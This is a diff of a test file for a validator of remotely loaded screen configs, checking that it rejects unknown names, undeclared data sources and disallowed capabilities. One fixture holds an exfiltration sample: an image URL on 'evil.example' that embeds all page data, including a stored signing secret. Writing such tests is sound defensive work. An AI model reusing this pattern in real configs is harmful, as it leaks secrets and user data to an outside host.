@@ -1,9 +1,14 @@
 import { describe, expect, it } from 'vitest'
 import { createTestEngine } from '../testing-engine'
 import { checkRemoteScreen } from './check-remote-screen'
+import { runTimeCapabilities } from './run-time-capabilities'
 
 // The site's origin, passed in: this test runs under Node, where there is no location.
 const ORIGIN = 'https://app.example.cn'
+
+/** The check in English (the default is Chinese, as the failure page shows it). */
+const checkEn = (config: unknown, file: string) =>
+  checkRemoteScreen(config, file, createTestEngine(), ORIGIN, runTimeCapabilities(ORIGIN), 'en')
 
 const good = {
   $schema: '../../schemas/screen.schema.json',
@@ -19,7 +24,7 @@ const good = {
 
 describe('checkRemoteScreen', () => {
   it('passes a config in the screen language that uses registered names only', async () => {
-    const loaded = await checkRemoteScreen(good, 'remote:autumn-walk', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(good, 'remote:autumn-walk')
     expect(loaded.problems).toEqual([])
     expect(loaded.config).toBe(good)
   })
@@ -34,10 +39,10 @@ describe('checkRemoteScreen', () => {
       ],
       data: { account: { sql: 'select 1' } },
     }
-    const loaded = await checkRemoteScreen(bad, 'remote:bad', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(bad, 'remote:bad')
     expect(loaded.config).toBeNull()
     const byPath = Object.fromEntries(loaded.problems.map((p) => [p.path, p.message]))
-    expect(byPath['/body/0/type']).toMatch(/^unknown node type "txt" \(known: .*text/)
+    expect(byPath['/body/0/type']).toMatch(/^unknown node type "txt" \(did you mean "text"\?\)/)
     expect(byPath['/body/1/press/action']).toMatch(/^unknown action "launchRocket"/)
     expect(byPath['/body/2/colour']).toMatch(/unknown property "colour"/)
     expect(byPath['/data/account']).toMatch(/data source needs one of the keys call/)
@@ -46,9 +51,9 @@ describe('checkRemoteScreen', () => {
 
   it('refuses calls and functions this app does not have', async () => {
     const config = { ...good, data: { x: { call: 'bank.transferAll' } }, body: [{ type: 'text', text: '{{ fetch(1) }}{{ date(1, ) }}' }] }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(config, 'remote:x')
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
-      '/data/x/call: unknown call "bank.transferAll"',
+      '/data/x/call: unknown call "bank.transferAll". Use a call of src/api/catalogue.ts',
       expect.stringMatching(/^\/body\/0\/text: unknown function "fetch"/),
       expect.stringMatching(/^\/body\/0\/text: .+/),
     ])
@@ -56,14 +61,23 @@ describe('checkRemoteScreen', () => {
 
   it('names a t() key the shared wording lacks, and passes one it has', async () => {
     const config = { ...good, data: {}, body: [{ type: 'text', text: "{{ t('retry') }} {{ t('retyr') }}" }] }
-    const loaded = await checkRemoteScreen(config, 'remote:w', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(config, 'remote:w')
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/body\/0\/text: unknown wording key "retyr"/),
     ])
   })
 
+  it('refuses data.<name> the config does not declare, and says so in Chinese by default', async () => {
+    const config = { ...good, body: [{ type: 'text', text: '{{ data.acount.balance }}' }] }
+    const loaded = await checkRemoteScreen(config, 'remote:typo', createTestEngine(), ORIGIN)
+    expect(loaded.config).toBeNull()
+    expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
+      '/body/0/text: 未知的数据源“acount”（在 {{ data.acount.balance }} 中）（是不是想写“account”？）（本页声明的有：account）。改成本页 "data" 里声明的名字，或在 "data" 里声明它',
+    ])
+  })
+
   it('refuses what is not a screen at all', async () => {
-    const loaded = await checkRemoteScreen([1, 2], 'remote:y', createTestEngine(), ORIGIN)
+    const loaded = await checkEn([1, 2], 'remote:y')
     expect(loaded.config).toBeNull()
     expect(loaded.problems[0].path).toBe('')
   })
@@ -76,7 +90,7 @@ describe('checkRemoteScreen under the run-time capabilities', () => {
       data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
       body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '' }],
     }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(config, 'remote:x')
     expect(loaded.config).toBeNull()
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/data\/calls: .*\(capability: data sources\): the "inspect" data source/),
@@ -95,7 +109,7 @@ describe('checkRemoteScreen under the run-time capabilities', () => {
       ],
       body: [{ type: 'button', text: '关注', press: { action: 'call', call: 'homepage.follow' } }],
     }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
+    const loaded = await checkEn(config, 'remote:x')
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/enter\/1\/call: .*\(capability: writing calls\): "homepage.follow" changes data/),
       expect.stringMatching(/^\/enter\/2\/call: .*"content.comment" changes data/),
